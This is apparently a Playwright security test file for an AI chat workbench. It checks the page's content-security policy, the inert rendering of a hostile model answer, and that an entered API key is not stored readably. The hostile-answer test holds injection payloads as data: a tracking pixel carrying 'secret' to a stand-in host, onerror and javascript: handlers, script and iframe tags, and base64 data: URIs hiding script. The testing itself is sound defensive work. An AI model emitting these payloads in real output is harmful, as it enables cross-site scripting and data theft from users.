import type { Page } from '@playwright/test'
import { expect, test, KEY } from './models/flow-test.ts'

// What it keeps and asks for counts, too.
test.use({ serviceWorkers: 'allow' })

/** Everything that the origin keeps and shows, as one text: databases with their bytes, local storage, the page. */
async function allThatIsKept(page: Page): Promise<string> {
  return await page.evaluate(async () => {
    const done = <T>(request: IDBRequest<T>) =>
      new Promise<T>((resolve, reject) => {
        request.addEventListener('success', () => resolve(request.result))
        request.addEventListener('error', () => reject(request.error))
      })
    const latin = new TextDecoder('latin1')
    const asText = (value: unknown): unknown => {
      if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return latin.decode(value)
      if (value instanceof CryptoKey) return `key, extractable: ${value.extractable}`
      if (Array.isArray(value)) return value.map(asText)
      if (value instanceof Object)
        return Object.fromEntries(Object.entries(value).map(([name, held]) => [name, asText(held)]))
      return value
    }
    const found: unknown[] = [
      { ...localStorage },
      { ...sessionStorage },
      document.documentElement.outerHTML,
      document.cookie,
    ]
    for (const { name } of await indexedDB.databases()) {
      const database = await done(indexedDB.open(name ?? ''))
      for (const store of database.objectStoreNames)
        found.push({ store, rows: asText(await done(database.transaction(store).objectStore(store).getAll())) })
      database.close()
    }
    for (const input of document.querySelectorAll('input, textarea')) found.push((input as HTMLInputElement).value)
    return JSON.stringify(found)
  })
}

test('the page comes with a policy that lets it reach nobody and run nothing of others', async ({
  workbench,
  mock,
  page,
}) => {
  const response = await page.goto('./')
  await workbench.ready()
  const policy = response?.headers()['content-security-policy'] ?? ''
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'")
  expect(policy).toContain("connect-src 'self'")
  expect(policy).toContain("frame-src 'none'")
  expect(policy).toContain("frame-ancestors 'none'")
  const inPage = await page.evaluate(() => ({
    meta: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
    inlineScripts: document.querySelectorAll('script:not([src])').length,
    handlers: [...document.querySelectorAll('*')].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith('on')),
    ).length,
  }))
  expect(inPage.inlineScripts).toBe(0)
  expect(inPage.handlers).toBe(0)
  expect(inPage.meta).toContain("connect-src 'self'")

  const tried = await page.evaluate(async (address) => {
    const fetched = await fetch(address, { mode: 'no-cors' }).then(
      () => 'allowed',
      () => 'refused',
    )
    const script = document.createElement('script')
    script.textContent = 'window.ranInline = true'
    document.body.append(script)
    const image = await new Promise((resolve) => {
      const element = new Image()
      element.addEventListener('load', () => resolve('allowed'))
      element.addEventListener('error', () => resolve('refused'))
      element.src = `${address}/pixel.png`
    })
    return { fetched, image, inline: 'ranInline' in window }
  }, mock.url)
  expect(tried).toEqual({ fetched: 'refused', image: 'refused', inline: false })
  expect(mock.requests()).toEqual([])
})

test('a hostile answer asks nobody, runs nothing and leads nowhere', async ({
  session,
  mock,
  watch,
  page,
  context,
}) => {
  const text = [
    '![pixel](https://tracker.invalid/pixel.png?q=secret)',
    '<img src="https://tracker.invalid/raw.png" onerror="window.ranHostile = true">',
    '<script>window.ranHostile = true</script>',
    '<iframe src="https://tracker.invalid/frame"></iframe>',
    '[press me](javascript:window.ranHostile=true)',
    '[data link](data:text/html;base64,PHNjcmlwdD5vcGVuZXIucmFuSG9zdGlsZT0xPC9zY3JpcHQ+)',
    '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
    '[honest](https://example.com/)',
    'The end of it.',
  ].join('\n\n')
  mock.script({ text })
  await session.say('Say something.')
  await expect(session.log).toContainText('The end of it.')
  await session.rested()
  const pages = context.pages().length
  await session.log.getByText('press me').click()
  await session.log.getByText('data link').click()

  expect(await page.evaluate(() => 'ranHostile' in window)).toBe(false)
  expect(context.pages()).toHaveLength(pages)
  expect(
    await session.log.evaluate((log) => ({
      images: log.querySelectorAll('img').length,
      frames: log.querySelectorAll('iframe, object, embed, script').length,
      links: [...log.querySelectorAll('a')].map((link) => [link.getAttribute('href'), link.rel, link.target]),
    })),
  ).toEqual({ images: 0, frames: 0, links: [['https://example.com/', 'noopener noreferrer', '_blank']] })
  expect(watch).toEqual({ foreign: [], errors: [] })
})

test('a key is nowhere to be read after it was entered', async ({ session, mock, page }) => {
  mock.script(
    { calls: [{ name: 'write_file', arguments: { path: 'a.txt', content: 'a\n' } }] },
    { error: { status: 401, message: `Incorrect API key provided: ${KEY}` } },
  )
  const said: string[] = []
  page.on('console', (message) => said.push(message.text()))
  await session.say('Hello.')
  await session.answer('Allow once')
  await expect(session.log.getByRole('note').filter({ hasText: 'did not accept the key' }).first()).toBeVisible()
  await session.openSettings()
  await expect(session.provider('Anthropic')).toContainText('Key ••••7777')
  await session.provider('Anthropic').getByRole('button', { name: 'Edit' }).click()
  await expect(session.settings.getByLabel(/^Key/)).toHaveValue('')

  const kept = await allThatIsKept(page)
  // The dump is a dump: it holds what is there to be seen.
  expect(kept).toContain('mock-model')
  expect(kept).toContain('extractable: false')
  expect(kept).not.toContain('extractable: true')
  expect(kept).not.toContain(KEY)
  expect(kept).not.toContain(KEY.slice(3, 20))
  expect(kept).not.toContain(btoa(KEY))
  expect(said.join('\n')).not.toContain(KEY)
  expect(page.url()).not.toContain(KEY)
})
